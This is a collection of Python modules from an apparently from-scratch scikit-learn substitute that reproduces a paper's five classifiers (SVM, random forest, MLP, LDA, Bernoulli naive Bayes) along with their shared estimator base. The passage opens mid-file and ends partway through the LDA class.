from repro.ml.base import ClassifierMixin, check_array, check_X_y
from repro.ml.tree import DecisionTreeClassifier


class RandomForestClassifier(ClassifierMixin):
    """Bootstrap-aggregated decision trees with feature subsampling.

    ``predict_proba`` averages per-tree leaf distributions (soft voting),
    matching scikit-learn's behaviour.
    """

    def __init__(
        self,
        n_estimators: int = 100,
        max_depth: int | None = None,
        min_samples_split: int = 2,
        min_samples_leaf: int = 1,
        max_features: int | float | str | None = "sqrt",
        bootstrap: bool = True,
        random_state: int | None = None,
    ) -> None:
        if n_estimators < 1:
            raise ValueError("n_estimators must be >= 1")
        self.n_estimators = n_estimators
        self.max_depth = max_depth
        self.min_samples_split = min_samples_split
        self.min_samples_leaf = min_samples_leaf
        self.max_features = max_features
        self.bootstrap = bootstrap
        self.random_state = random_state

    def fit(self, X, y) -> "RandomForestClassifier":
        X, y = check_X_y(X, y)
        encoded = self._encode_labels(y)
        self.n_features_ = X.shape[1]
        rng = np.random.default_rng(self.random_state)
        n_samples = X.shape[0]
        self.estimators_: list[DecisionTreeClassifier] = []
        self._oob_hits = np.zeros((n_samples, len(self.classes_)))
        self._oob_counts = np.zeros(n_samples)
        self._oob_true = encoded

        for _ in range(self.n_estimators):
            if self.bootstrap:
                sample_indices = rng.integers(0, n_samples, size=n_samples)
            else:
                sample_indices = np.arange(n_samples)
            tree = DecisionTreeClassifier(
                max_depth=self.max_depth,
                min_samples_split=self.min_samples_split,
                min_samples_leaf=self.min_samples_leaf,
                max_features=self.max_features,
                random_state=int(rng.integers(0, 2**31 - 1)),
            )
            tree.fit(X[sample_indices], encoded[sample_indices])
            self.estimators_.append(tree)
            if self.bootstrap:
                out_of_bag = np.setdiff1d(
                    np.arange(n_samples), np.unique(sample_indices)
                )
                if out_of_bag.size:
                    probabilities = tree.predict_proba(X[out_of_bag])
                    self._oob_hits[out_of_bag] += probabilities
                    self._oob_counts[out_of_bag] += 1
        return self

    def predict_proba(self, X) -> np.ndarray:
        self._check_fitted()
        X = check_array(X)
        total = np.zeros((X.shape[0], len(self.classes_)))
        for tree in self.estimators_:
            # Trees were fit on encoded labels 0..k-1; align columns by the
            # encoded class ids each tree saw.
            probabilities = tree.predict_proba(X)
            seen = tree.classes_.astype(int)
            total[:, seen] += probabilities
        return total / len(self.estimators_)

    @property
    def feature_importances_(self) -> np.ndarray:
        """Importances averaged over the ensemble's trees."""
        self._check_fitted()
        stacked = np.vstack([tree.feature_importances_ for tree in self.estimators_])
        mean = stacked.mean(axis=0)
        if mean.sum() > 0:
            mean /= mean.sum()
        return mean

    @property
    def oob_score_(self) -> float:
        """Out-of-bag accuracy estimate (bootstrap mode only)."""
        self._check_fitted()
        if not self.bootstrap:
            raise ValueError("OOB score requires bootstrap=True")
        covered = self._oob_counts > 0
        if not np.any(covered):
            raise ValueError("no out-of-bag samples; increase n_estimators")
        votes = np.argmax(self._oob_hits[covered], axis=1)
        return float(np.mean(votes == self._oob_true[covered]))
