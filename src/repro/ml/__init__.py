"""A from-scratch scikit-learn substitute covering the paper's needs.

Five classifiers (Section IV.D): :class:`SVC`, :class:`RandomForestClassifier`,
:class:`MLPClassifier`, :class:`LinearDiscriminantAnalysis`,
:class:`BernoulliNB`; plus preprocessing, stratified cross-validation, and
the Section V metrics (accuracy / precision / recall / F_β / ROC / AUC).
"""

from repro.ml.base import ClassifierMixin, NotFittedError
from repro.ml.forest import RandomForestClassifier
from repro.ml.lda import LinearDiscriminantAnalysis
from repro.ml.metrics import (
    accuracy_score,
    auc,
    classification_report,
    confusion_matrix_binary,
    f1_score,
    f2_score,
    fbeta_score,
    precision_score,
    recall_score,
    roc_auc_score,
    roc_curve,
)
from repro.ml.mlp import MLPClassifier
from repro.ml.model_selection import (
    CrossValidationResult,
    StratifiedKFold,
    cross_validate,
    train_test_split,
)
from repro.ml.naive_bayes import BernoulliNB
from repro.ml.preprocessing import Binarizer, MedianBinarizer, StandardScaler
from repro.ml.svm import SVC, linear_kernel, rbf_kernel
from repro.ml.tree import DecisionTreeClassifier

__all__ = [
    "SVC",
    "BernoulliNB",
    "Binarizer",
    "ClassifierMixin",
    "CrossValidationResult",
    "DecisionTreeClassifier",
    "LinearDiscriminantAnalysis",
    "MLPClassifier",
    "MedianBinarizer",
    "NotFittedError",
    "RandomForestClassifier",
    "StandardScaler",
    "StratifiedKFold",
    "accuracy_score",
    "auc",
    "classification_report",
    "confusion_matrix_binary",
    "cross_validate",
    "f1_score",
    "f2_score",
    "fbeta_score",
    "linear_kernel",
    "precision_score",
    "rbf_kernel",
    "recall_score",
    "roc_auc_score",
    "roc_curve",
    "train_test_split",
]
