"""Support Vector Machine with RBF kernel, trained by SMO.

The paper uses SVM with ``C = 150`` and ``γ = 0.03`` (Section IV.D).  The
optimizer is the simplified Sequential Minimal Optimization algorithm
(Platt 1998; simplified variant per the CS229 notes): pick a KKT-violating
multiplier, pair it with a second, solve the two-variable subproblem
analytically, repeat until no multiplier moves for ``max_passes`` sweeps.

``predict_proba`` applies Platt scaling — a logistic fit on the decision
values — so the classifier plugs into ROC/AUC evaluation like the others.
"""

from __future__ import annotations

import numpy as np

from repro.ml.base import ClassifierMixin, check_array, check_X_y
from repro.ml.linalg import row_stable_matmul, row_stable_matvec


def rbf_kernel(A: np.ndarray, B: np.ndarray, gamma: float) -> np.ndarray:
    """Gaussian kernel matrix K[i, j] = exp(-γ‖a_i − b_j‖²).

    Row-stable: K's row ``i`` is bit-identical whatever ``A``'s batch
    size, which keeps per-row and batched scoring exactly equal.
    """
    a_sq = np.sum(A * A, axis=1)[:, None]
    b_sq = np.sum(B * B, axis=1)[None, :]
    distances = a_sq + b_sq - 2.0 * row_stable_matmul(A, B.T)
    np.maximum(distances, 0.0, out=distances)
    return np.exp(-gamma * distances)


def linear_kernel(A: np.ndarray, B: np.ndarray, gamma: float) -> np.ndarray:
    return row_stable_matmul(A, B.T)


_KERNELS = {"rbf": rbf_kernel, "linear": linear_kernel}


class SVC(ClassifierMixin):
    """Binary kernel SVM.

    Args:
        C: box constraint (paper value 150).
        gamma: RBF width (paper value 0.03), or "scale" for
            ``1 / (n_features · Var[X])``.
        kernel: "rbf" or "linear".
        tol: KKT violation tolerance.
        max_passes: consecutive full sweeps without updates before stopping.
        max_iter: hard cap on optimization sweeps.
    """

    def __init__(
        self,
        C: float = 150.0,
        gamma: float | str = 0.03,
        kernel: str = "rbf",
        tol: float = 1e-3,
        max_passes: int = 3,
        max_iter: int = 200,
        random_state: int | None = 0,
    ) -> None:
        if C <= 0:
            raise ValueError("C must be positive")
        if kernel not in _KERNELS:
            raise ValueError(f"unknown kernel {kernel!r}")
        self.C = C
        self.gamma = gamma
        self.kernel = kernel
        self.tol = tol
        self.max_passes = max_passes
        self.max_iter = max_iter
        self.random_state = random_state

    # ------------------------------------------------------------------

    def fit(self, X, y) -> "SVC":
        X, y = check_X_y(X, y)
        encoded = self._encode_labels(y)
        if len(self.classes_) != 2:
            raise ValueError("SVC supports exactly two classes")
        signs = np.where(encoded == 1, 1.0, -1.0)
        self._gamma_value = self._resolve_gamma(X)
        kernel_fn = _KERNELS[self.kernel]
        K = kernel_fn(X, X, self._gamma_value)

        n = X.shape[0]
        alpha = np.zeros(n)
        b = 0.0
        rng = np.random.default_rng(self.random_state)

        def decision_all() -> np.ndarray:
            return (alpha * signs) @ K + b

        passes = 0
        iteration = 0
        while passes < self.max_passes and iteration < self.max_iter:
            changed = 0
            errors = decision_all() - signs
            for i in range(n):
                E_i = float((alpha * signs) @ K[:, i] + b - signs[i])
                r_i = E_i * signs[i]
                if not (
                    (r_i < -self.tol and alpha[i] < self.C)
                    or (r_i > self.tol and alpha[i] > 0)
                ):
                    continue
                # Second-choice heuristic: maximize |E_i − E_j|.
                j = int(np.argmax(np.abs(errors - E_i)))
                if j == i:
                    j = int(rng.integers(0, n - 1))
                    if j >= i:
                        j += 1
                E_j = float((alpha * signs) @ K[:, j] + b - signs[j])

                alpha_i_old, alpha_j_old = alpha[i], alpha[j]
                if signs[i] != signs[j]:
                    low = max(0.0, alpha[j] - alpha[i])
                    high = min(self.C, self.C + alpha[j] - alpha[i])
                else:
                    low = max(0.0, alpha[i] + alpha[j] - self.C)
                    high = min(self.C, alpha[i] + alpha[j])
                if low == high:
                    continue
                eta = 2.0 * K[i, j] - K[i, i] - K[j, j]
                if eta >= 0:
                    continue
                alpha[j] = alpha_j_old - signs[j] * (E_i - E_j) / eta
                alpha[j] = min(high, max(low, alpha[j]))
                if abs(alpha[j] - alpha_j_old) < 1e-7:
                    continue
                alpha[i] = alpha_i_old + signs[i] * signs[j] * (
                    alpha_j_old - alpha[j]
                )
                b1 = (
                    b
                    - E_i
                    - signs[i] * (alpha[i] - alpha_i_old) * K[i, i]
                    - signs[j] * (alpha[j] - alpha_j_old) * K[i, j]
                )
                b2 = (
                    b
                    - E_j
                    - signs[i] * (alpha[i] - alpha_i_old) * K[i, j]
                    - signs[j] * (alpha[j] - alpha_j_old) * K[j, j]
                )
                if 0 < alpha[i] < self.C:
                    b = b1
                elif 0 < alpha[j] < self.C:
                    b = b2
                else:
                    b = 0.5 * (b1 + b2)
                errors = decision_all() - signs
                changed += 1
            passes = passes + 1 if changed == 0 else 0
            iteration += 1

        support = alpha > 1e-8
        self.support_vectors_ = X[support]
        self.dual_coef_ = (alpha * signs)[support]
        self.intercept_ = b
        self.n_iter_ = iteration
        self._fit_platt_scaling(X, signs)
        return self

    def _resolve_gamma(self, X: np.ndarray) -> float:
        if self.gamma == "scale":
            variance = X.var()
            if variance == 0:
                variance = 1.0
            return 1.0 / (X.shape[1] * variance)
        value = float(self.gamma)
        if value <= 0:
            raise ValueError("gamma must be positive")
        return value

    def _fit_platt_scaling(self, X: np.ndarray, signs: np.ndarray) -> None:
        """Fit sigmoid P(y=1|f) = 1 / (1 + exp(A·f + B)) by gradient descent."""
        decisions = self.decision_function(X)
        targets = (signs + 1.0) / 2.0
        A, B = -1.0, 0.0
        for _ in range(200):
            z = A * decisions + B
            p = 1.0 / (1.0 + np.exp(np.clip(z, -35, 35)))
            gradient = p - targets  # d(-loglik)/dz with p = P(y=1)
            grad_A = float(np.mean(gradient * -decisions))
            grad_B = float(np.mean(-gradient))
            A -= 0.1 * grad_A
            B -= 0.1 * grad_B
        self._platt_A, self._platt_B = A, B

    # ------------------------------------------------------------------

    def decision_function(self, X) -> np.ndarray:
        self._check_fitted()
        X = check_array(X)
        if self.support_vectors_.shape[0] == 0:
            return np.full(X.shape[0], self.intercept_)
        kernel_fn = _KERNELS[self.kernel]
        K = kernel_fn(X, self.support_vectors_, self._gamma_value)
        return row_stable_matvec(K, self.dual_coef_) + self.intercept_

    def predict(self, X) -> np.ndarray:
        decisions = self.decision_function(X)
        return self._decode_labels((decisions >= 0).astype(int))

    def predict_proba(self, X) -> np.ndarray:
        decisions = self.decision_function(X)
        z = self._platt_A * decisions + self._platt_B
        positive = 1.0 / (1.0 + np.exp(np.clip(z, -35, 35)))
        return np.column_stack([1.0 - positive, positive])

    def decision_scores(self, X) -> np.ndarray:
        return self.decision_function(X)
