"""CART decision tree with Gini impurity.

The building block for :class:`repro.ml.forest.RandomForestClassifier`.
Split search is vectorized per feature: candidate thresholds are midpoints
between consecutive distinct sorted values, and class counts are accumulated
with cumulative sums, so a node costs O(features × n log n).
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from repro.ml.base import ClassifierMixin, check_array, check_X_y


@dataclass(slots=True)
class _Node:
    """One tree node; leaves carry class-count distributions."""

    feature: int = -1
    threshold: float = 0.0
    left: "_Node | None" = None
    right: "_Node | None" = None
    counts: np.ndarray | None = None  # class counts at a leaf (and splits)

    @property
    def is_leaf(self) -> bool:
        return self.left is None


def _gini(counts: np.ndarray) -> float:
    total = counts.sum()
    if total == 0:
        return 0.0
    proportions = counts / total
    return float(1.0 - np.sum(proportions * proportions))


class DecisionTreeClassifier(ClassifierMixin):
    """Binary-split CART classifier.

    Args:
        max_depth: depth cap (None = unbounded).
        min_samples_split: minimum samples to attempt a split.
        min_samples_leaf: minimum samples a child must keep.
        max_features: number of features sampled per split ("sqrt", "log2",
            an int, a float fraction, or None for all) — the forest's source
            of decorrelation.
        random_state: seed for feature subsampling.
    """

    def __init__(
        self,
        max_depth: int | None = None,
        min_samples_split: int = 2,
        min_samples_leaf: int = 1,
        max_features: int | float | str | None = None,
        random_state: int | None = None,
    ) -> None:
        if min_samples_split < 2:
            raise ValueError("min_samples_split must be >= 2")
        if min_samples_leaf < 1:
            raise ValueError("min_samples_leaf must be >= 1")
        self.max_depth = max_depth
        self.min_samples_split = min_samples_split
        self.min_samples_leaf = min_samples_leaf
        self.max_features = max_features
        self.random_state = random_state

    # ------------------------------------------------------------------

    def fit(self, X, y) -> "DecisionTreeClassifier":
        X, y = check_X_y(X, y)
        encoded = self._encode_labels(y)
        self.n_features_ = X.shape[1]
        self._rng = np.random.default_rng(self.random_state)
        self._n_classes = len(self.classes_)
        self._n_split_features = self._resolve_max_features(self.n_features_)
        self._root = self._grow(X, encoded, depth=0)
        del self._rng
        return self

    def _resolve_max_features(self, n_features: int) -> int:
        value = self.max_features
        if value is None:
            return n_features
        if value == "sqrt":
            return max(1, int(np.sqrt(n_features)))
        if value == "log2":
            return max(1, int(np.log2(n_features)))
        if isinstance(value, float):
            if not 0.0 < value <= 1.0:
                raise ValueError("float max_features must be in (0, 1]")
            return max(1, int(value * n_features))
        if isinstance(value, int):
            if not 1 <= value <= n_features:
                raise ValueError("int max_features out of range")
            return value
        raise ValueError(f"bad max_features: {value!r}")

    def _grow(self, X: np.ndarray, y: np.ndarray, depth: int) -> _Node:
        counts = np.bincount(y, minlength=self._n_classes).astype(np.float64)
        node = _Node(counts=counts)
        if (
            (self.max_depth is not None and depth >= self.max_depth)
            or y.shape[0] < self.min_samples_split
            or _gini(counts) == 0.0
        ):
            return node
        split = self._best_split(X, y, counts)
        if split is None:
            return node
        feature, threshold = split
        mask = X[:, feature] <= threshold
        node.feature = feature
        node.threshold = threshold
        node.left = self._grow(X[mask], y[mask], depth + 1)
        node.right = self._grow(X[~mask], y[~mask], depth + 1)
        return node

    def _best_split(
        self, X: np.ndarray, y: np.ndarray, parent_counts: np.ndarray
    ) -> tuple[int, float] | None:
        n_samples = y.shape[0]
        parent_impurity = _gini(parent_counts)
        best_gain = 1e-12
        best: tuple[int, float] | None = None

        features = self._rng.permutation(self.n_features_)[: self._n_split_features]
        one_hot = np.zeros((n_samples, self._n_classes))
        one_hot[np.arange(n_samples), y] = 1.0

        for feature in features:
            values = X[:, feature]
            order = np.argsort(values, kind="stable")
            sorted_values = values[order]
            sorted_one_hot = one_hot[order]

            left_counts = np.cumsum(sorted_one_hot, axis=0)
            # Candidate split after position i (1-based size of left child).
            left_sizes = np.arange(1, n_samples + 1, dtype=np.float64)
            right_sizes = n_samples - left_sizes
            distinct = np.r_[sorted_values[1:] != sorted_values[:-1], False]
            valid = (
                distinct
                & (left_sizes >= self.min_samples_leaf)
                & (right_sizes >= self.min_samples_leaf)
            )
            if not np.any(valid):
                continue

            right_counts = parent_counts - left_counts
            with np.errstate(divide="ignore", invalid="ignore"):
                left_p = left_counts / left_sizes[:, None]
                right_p = np.where(
                    right_sizes[:, None] > 0,
                    right_counts / np.maximum(right_sizes, 1.0)[:, None],
                    0.0,
                )
            left_gini = 1.0 - np.sum(left_p * left_p, axis=1)
            right_gini = 1.0 - np.sum(right_p * right_p, axis=1)
            weighted = (
                left_sizes * left_gini + right_sizes * right_gini
            ) / n_samples
            gains = np.where(valid, parent_impurity - weighted, -np.inf)
            index = int(np.argmax(gains))
            if gains[index] > best_gain:
                best_gain = float(gains[index])
                threshold = 0.5 * (sorted_values[index] + sorted_values[index + 1])
                best = (int(feature), float(threshold))
        return best

    # ------------------------------------------------------------------

    def predict_proba(self, X) -> np.ndarray:
        self._check_fitted()
        X = check_array(X)
        if X.shape[1] != self.n_features_:
            raise ValueError(
                f"expected {self.n_features_} features, got {X.shape[1]}"
            )
        output = np.empty((X.shape[0], self._n_classes))
        for row in range(X.shape[0]):
            node = self._root
            while not node.is_leaf:
                if X[row, node.feature] <= node.threshold:
                    node = node.left
                else:
                    node = node.right
            counts = node.counts
            output[row] = counts / counts.sum()
        return output

    @property
    def depth_(self) -> int:
        """Actual depth of the fitted tree."""
        self._check_fitted()

        def measure(node: _Node) -> int:
            if node.is_leaf:
                return 0
            return 1 + max(measure(node.left), measure(node.right))

        return measure(self._root)

    @property
    def feature_importances_(self) -> np.ndarray:
        """Mean-impurity-decrease importances, normalized to sum to 1."""
        self._check_fitted()
        importances = np.zeros(self.n_features_)

        def walk(node: _Node) -> None:
            if node.is_leaf:
                return
            total = node.counts.sum()
            left_counts = node.left.counts
            right_counts = node.right.counts
            decrease = total * _gini(node.counts) - (
                left_counts.sum() * _gini(left_counts)
                + right_counts.sum() * _gini(right_counts)
            )
            importances[node.feature] += max(0.0, decrease)
            walk(node.left)
            walk(node.right)

        walk(self._root)
        if importances.sum() > 0:
            importances /= importances.sum()
        return importances

    @property
    def n_leaves_(self) -> int:
        self._check_fitted()

        def count(node: _Node) -> int:
            if node.is_leaf:
                return 1
            return count(node.left) + count(node.right)

        return count(self._root)
