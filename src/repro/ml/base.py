"""Estimator protocol shared by every classifier in :mod:`repro.ml`.

The interface mirrors the scikit-learn conventions the paper's experiments
assume: ``fit(X, y)`` → ``self``, ``predict(X)`` → labels,
``predict_proba(X)`` → class-probability matrix with columns ordered by
``classes_``.
"""

from __future__ import annotations

import numpy as np


class NotFittedError(RuntimeError):
    """Raised when ``predict`` is called before ``fit``."""


def check_X_y(X, y) -> tuple[np.ndarray, np.ndarray]:
    """Validate and convert a training pair to float64 / label arrays."""
    X = np.asarray(X, dtype=np.float64)
    y = np.asarray(y)
    if X.ndim != 2:
        raise ValueError(f"X must be 2-D, got shape {X.shape}")
    if y.ndim != 1:
        raise ValueError(f"y must be 1-D, got shape {y.shape}")
    if X.shape[0] != y.shape[0]:
        raise ValueError(
            f"X and y disagree on sample count: {X.shape[0]} vs {y.shape[0]}"
        )
    if X.shape[0] == 0:
        raise ValueError("cannot fit on an empty dataset")
    if not np.all(np.isfinite(X)):
        raise ValueError("X contains NaN or infinity")
    return X, y


def check_array(X) -> np.ndarray:
    """Validate and convert a prediction input to a 2-D float64 array."""
    X = np.asarray(X, dtype=np.float64)
    if X.ndim != 2:
        raise ValueError(f"X must be 2-D, got shape {X.shape}")
    if not np.all(np.isfinite(X)):
        raise ValueError("X contains NaN or infinity")
    return X


class ClassifierMixin:
    """Shared label-encoding plumbing for binary/multiclass classifiers.

    Subclasses call :meth:`_encode_labels` in ``fit`` and
    :meth:`_decode_labels` in ``predict``; ``classes_`` is the sorted label
    vocabulary, matching scikit-learn.
    """

    classes_: np.ndarray

    def _encode_labels(self, y: np.ndarray) -> np.ndarray:
        self.classes_, encoded = np.unique(y, return_inverse=True)
        return encoded

    def _decode_labels(self, indices: np.ndarray) -> np.ndarray:
        return self.classes_[indices]

    def _check_fitted(self) -> None:
        if not hasattr(self, "classes_"):
            raise NotFittedError(
                f"{type(self).__name__} must be fitted before predicting"
            )

    def predict_proba(self, X) -> np.ndarray:  # pragma: no cover - abstract
        raise NotImplementedError

    def predict(self, X) -> np.ndarray:
        """Default predict: argmax over predict_proba columns."""
        probabilities = self.predict_proba(X)
        return self._decode_labels(np.argmax(probabilities, axis=1))

    def score(self, X, y) -> float:
        """Mean accuracy on the given test data."""
        y = np.asarray(y)
        return float(np.mean(self.predict(X) == y))

    def decision_scores(self, X) -> np.ndarray:
        """Continuous score for the positive (last) class, for ROC curves."""
        return self.predict_proba(X)[:, -1]
