"""Bernoulli Naive Bayes classifier.

The paper's fifth classifier.  Features are binarized (x > threshold) and
modeled as independent Bernoulli variables per class, with Laplace
smoothing.  Unlike multinomial NB, absent features contribute the explicit
``log(1 − p)`` term.
"""

from __future__ import annotations

import numpy as np

from repro.ml.base import ClassifierMixin, check_array, check_X_y
from repro.ml.linalg import row_stable_matmul


class BernoulliNB(ClassifierMixin):
    """Bernoulli NB with Laplace (add-α) smoothing.

    Args:
        alpha: smoothing strength.
        binarize: threshold applied to inputs before fitting/predicting
            (None = inputs are already binary).
    """

    def __init__(self, alpha: float = 1.0, binarize: float | None = 0.0) -> None:
        if alpha <= 0:
            raise ValueError("alpha must be positive")
        self.alpha = alpha
        self.binarize = binarize

    def _binarize(self, X: np.ndarray) -> np.ndarray:
        if self.binarize is None:
            return X
        return (X > self.binarize).astype(np.float64)

    def fit(self, X, y) -> "BernoulliNB":
        X, y = check_X_y(X, y)
        encoded = self._encode_labels(y)
        X = self._binarize(X)
        n_classes = len(self.classes_)
        n_features = X.shape[1]

        self.class_log_prior_ = np.empty(n_classes)
        self.feature_log_prob_ = np.empty((n_classes, n_features))
        self._feature_log_neg_prob = np.empty((n_classes, n_features))
        for k in range(n_classes):
            members = X[encoded == k]
            count = members.shape[0]
            self.class_log_prior_[k] = np.log(count / X.shape[0])
            p = (members.sum(axis=0) + self.alpha) / (count + 2.0 * self.alpha)
            self.feature_log_prob_[k] = np.log(p)
            self._feature_log_neg_prob[k] = np.log1p(-p)
        self.n_features_ = n_features
        return self

    def _joint_log_likelihood(self, X: np.ndarray) -> np.ndarray:
        X = self._binarize(X)
        on = row_stable_matmul(X, self.feature_log_prob_.T)
        off = row_stable_matmul(1.0 - X, self._feature_log_neg_prob.T)
        return on + off + self.class_log_prior_

    def predict_proba(self, X) -> np.ndarray:
        self._check_fitted()
        X = check_array(X)
        if X.shape[1] != self.n_features_:
            raise ValueError(
                f"expected {self.n_features_} features, got {X.shape[1]}"
            )
        log_likelihood = self._joint_log_likelihood(X)
        log_likelihood -= log_likelihood.max(axis=1, keepdims=True)
        likelihood = np.exp(log_likelihood)
        return likelihood / likelihood.sum(axis=1, keepdims=True)
