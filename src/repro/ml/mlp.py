"""Multi-Layer Perceptron classifier (numpy backprop, Adam optimizer).

The paper's best classifier: MLP scores the top accuracy (0.970), recall
(0.915) and F₂ (0.92) on the V feature set.  This implementation is a
feed-forward network with ReLU hidden layers and a sigmoid output trained on
binary cross-entropy, with mini-batch Adam and early stopping on a small
validation split.
"""

from __future__ import annotations

import numpy as np

from repro.ml.base import ClassifierMixin, check_array, check_X_y
from repro.ml.linalg import row_stable_matmul


def _relu(z: np.ndarray) -> np.ndarray:
    return np.maximum(z, 0.0)


def _sigmoid(z: np.ndarray) -> np.ndarray:
    return 1.0 / (1.0 + np.exp(np.clip(-z, -35, 35)))


class MLPClassifier(ClassifierMixin):
    """Binary MLP with one or more ReLU hidden layers.

    Args:
        hidden_layer_sizes: widths of the hidden layers.
        learning_rate: Adam step size.
        alpha: L2 penalty.
        batch_size: mini-batch size.
        max_epochs: training epoch cap.
        early_stopping: stop when validation loss stops improving.
        n_iter_no_change: patience for early stopping.
        validation_fraction: share of training data held out for validation.
    """

    def __init__(
        self,
        hidden_layer_sizes: tuple[int, ...] = (100,),
        learning_rate: float = 1e-3,
        alpha: float = 1e-4,
        batch_size: int = 64,
        max_epochs: int = 200,
        early_stopping: bool = True,
        n_iter_no_change: int = 10,
        validation_fraction: float = 0.1,
        random_state: int | None = 0,
    ) -> None:
        if not hidden_layer_sizes or any(h < 1 for h in hidden_layer_sizes):
            raise ValueError("hidden layers must all be >= 1 unit")
        if not 0.0 < validation_fraction < 1.0:
            raise ValueError("validation_fraction must be in (0, 1)")
        self.hidden_layer_sizes = tuple(hidden_layer_sizes)
        self.learning_rate = learning_rate
        self.alpha = alpha
        self.batch_size = batch_size
        self.max_epochs = max_epochs
        self.early_stopping = early_stopping
        self.n_iter_no_change = n_iter_no_change
        self.validation_fraction = validation_fraction
        self.random_state = random_state

    # ------------------------------------------------------------------

    def fit(self, X, y) -> "MLPClassifier":
        X, y = check_X_y(X, y)
        encoded = self._encode_labels(y)
        if len(self.classes_) != 2:
            raise ValueError("MLPClassifier supports exactly two classes")
        targets = encoded.astype(np.float64)
        self.n_features_ = X.shape[1]
        rng = np.random.default_rng(self.random_state)

        layer_sizes = (self.n_features_, *self.hidden_layer_sizes, 1)
        self._weights = []
        self._biases = []
        for fan_in, fan_out in zip(layer_sizes[:-1], layer_sizes[1:]):
            scale = np.sqrt(2.0 / fan_in)  # He initialization for ReLU
            self._weights.append(rng.normal(0.0, scale, size=(fan_in, fan_out)))
            self._biases.append(np.zeros(fan_out))

        # Validation split for early stopping.
        n_samples = X.shape[0]
        if self.early_stopping and n_samples >= 20:
            indices = rng.permutation(n_samples)
            n_val = max(1, int(n_samples * self.validation_fraction))
            val_idx, train_idx = indices[:n_val], indices[n_val:]
            X_train, t_train = X[train_idx], targets[train_idx]
            X_val, t_val = X[val_idx], targets[val_idx]
        else:
            X_train, t_train = X, targets
            X_val, t_val = None, None

        m_w = [np.zeros_like(w) for w in self._weights]
        v_w = [np.zeros_like(w) for w in self._weights]
        m_b = [np.zeros_like(b) for b in self._biases]
        v_b = [np.zeros_like(b) for b in self._biases]
        beta1, beta2, epsilon = 0.9, 0.999, 1e-8
        step = 0
        best_loss = np.inf
        stale_epochs = 0
        best_state = None
        self.loss_curve_: list[float] = []

        for epoch in range(self.max_epochs):
            order = rng.permutation(X_train.shape[0])
            epoch_loss = 0.0
            batches = 0
            for start in range(0, X_train.shape[0], self.batch_size):
                batch = order[start : start + self.batch_size]
                Xb, tb = X_train[batch], t_train[batch]
                grads_w, grads_b, loss = self._backprop(Xb, tb)
                epoch_loss += loss
                batches += 1
                step += 1
                for layer, (gw, gb) in enumerate(zip(grads_w, grads_b)):
                    m_w[layer] = beta1 * m_w[layer] + (1 - beta1) * gw
                    v_w[layer] = beta2 * v_w[layer] + (1 - beta2) * gw * gw
                    m_b[layer] = beta1 * m_b[layer] + (1 - beta1) * gb
                    v_b[layer] = beta2 * v_b[layer] + (1 - beta2) * gb * gb
                    m_w_hat = m_w[layer] / (1 - beta1**step)
                    v_w_hat = v_w[layer] / (1 - beta2**step)
                    m_b_hat = m_b[layer] / (1 - beta1**step)
                    v_b_hat = v_b[layer] / (1 - beta2**step)
                    self._weights[layer] -= (
                        self.learning_rate * m_w_hat / (np.sqrt(v_w_hat) + epsilon)
                    )
                    self._biases[layer] -= (
                        self.learning_rate * m_b_hat / (np.sqrt(v_b_hat) + epsilon)
                    )
            self.loss_curve_.append(epoch_loss / max(1, batches))

            if X_val is not None:
                val_loss = self._loss(X_val, t_val)
                if val_loss < best_loss - 1e-5:
                    best_loss = val_loss
                    stale_epochs = 0
                    best_state = (
                        [w.copy() for w in self._weights],
                        [b.copy() for b in self._biases],
                    )
                else:
                    stale_epochs += 1
                    if stale_epochs >= self.n_iter_no_change:
                        break
        if best_state is not None:
            self._weights, self._biases = best_state
        self.n_epochs_ = len(self.loss_curve_)
        return self

    # ------------------------------------------------------------------

    def _forward(self, X: np.ndarray) -> tuple[list[np.ndarray], np.ndarray]:
        # Row-stable layer products: a sample's activations (hence score)
        # are bit-identical at any batch size.
        activations = [X]
        hidden = X
        for weight, bias in zip(self._weights[:-1], self._biases[:-1]):
            hidden = _relu(row_stable_matmul(hidden, weight) + bias)
            activations.append(hidden)
        output = _sigmoid(
            row_stable_matmul(hidden, self._weights[-1]) + self._biases[-1]
        ).ravel()
        return activations, output

    def _loss(self, X: np.ndarray, targets: np.ndarray) -> float:
        _, output = self._forward(X)
        output = np.clip(output, 1e-12, 1 - 1e-12)
        return float(
            -np.mean(targets * np.log(output) + (1 - targets) * np.log(1 - output))
        )

    def _backprop(self, X: np.ndarray, targets: np.ndarray):
        activations, output = self._forward(X)
        n = X.shape[0]
        clipped = np.clip(output, 1e-12, 1 - 1e-12)
        loss = float(
            -np.mean(
                targets * np.log(clipped) + (1 - targets) * np.log(1 - clipped)
            )
        )
        grads_w: list[np.ndarray] = [None] * len(self._weights)
        grads_b: list[np.ndarray] = [None] * len(self._biases)
        # Output layer: d(BCE∘sigmoid)/dz = (p − t).
        delta = ((output - targets) / n)[:, None]
        grads_w[-1] = activations[-1].T @ delta + self.alpha * self._weights[-1]
        grads_b[-1] = delta.sum(axis=0)
        upstream = delta @ self._weights[-1].T
        for layer in range(len(self._weights) - 2, -1, -1):
            mask = activations[layer + 1] > 0  # ReLU derivative
            delta_h = upstream * mask
            grads_w[layer] = (
                activations[layer].T @ delta_h + self.alpha * self._weights[layer]
            )
            grads_b[layer] = delta_h.sum(axis=0)
            upstream = delta_h @ self._weights[layer].T
        return grads_w, grads_b, loss

    # ------------------------------------------------------------------

    def predict_proba(self, X) -> np.ndarray:
        self._check_fitted()
        X = check_array(X)
        if X.shape[1] != self.n_features_:
            raise ValueError(
                f"expected {self.n_features_} features, got {X.shape[1]}"
            )
        _, output = self._forward(X)
        return np.column_stack([1.0 - output, output])
