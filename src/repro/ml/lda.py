"""Linear Discriminant Analysis classifier.

Gaussian class-conditional model with a shared (pooled) covariance matrix —
the classic Fisher discriminant generalization the paper cites.  The shared
covariance makes the log-posterior difference linear in x, hence "linear"
discriminant analysis.
"""

from __future__ import annotations

import numpy as np

from repro.ml.base import ClassifierMixin, check_array, check_X_y
from repro.ml.linalg import row_stable_matmul


class LinearDiscriminantAnalysis(ClassifierMixin):
    """LDA via pooled-covariance Gaussian likelihoods.

    Args:
        shrinkage: ridge added to the pooled covariance diagonal (as a
            fraction of the average eigenvalue) for numerical stability on
            nearly collinear feature sets.
    """

    def __init__(self, shrinkage: float = 1e-4) -> None:
        if shrinkage < 0:
            raise ValueError("shrinkage must be non-negative")
        self.shrinkage = shrinkage

    def fit(self, X, y) -> "LinearDiscriminantAnalysis":
        X, y = check_X_y(X, y)
        encoded = self._encode_labels(y)
        n_samples, n_features = X.shape
        n_classes = len(self.classes_)
        if n_classes < 2:
            raise ValueError("LDA needs at least two classes")

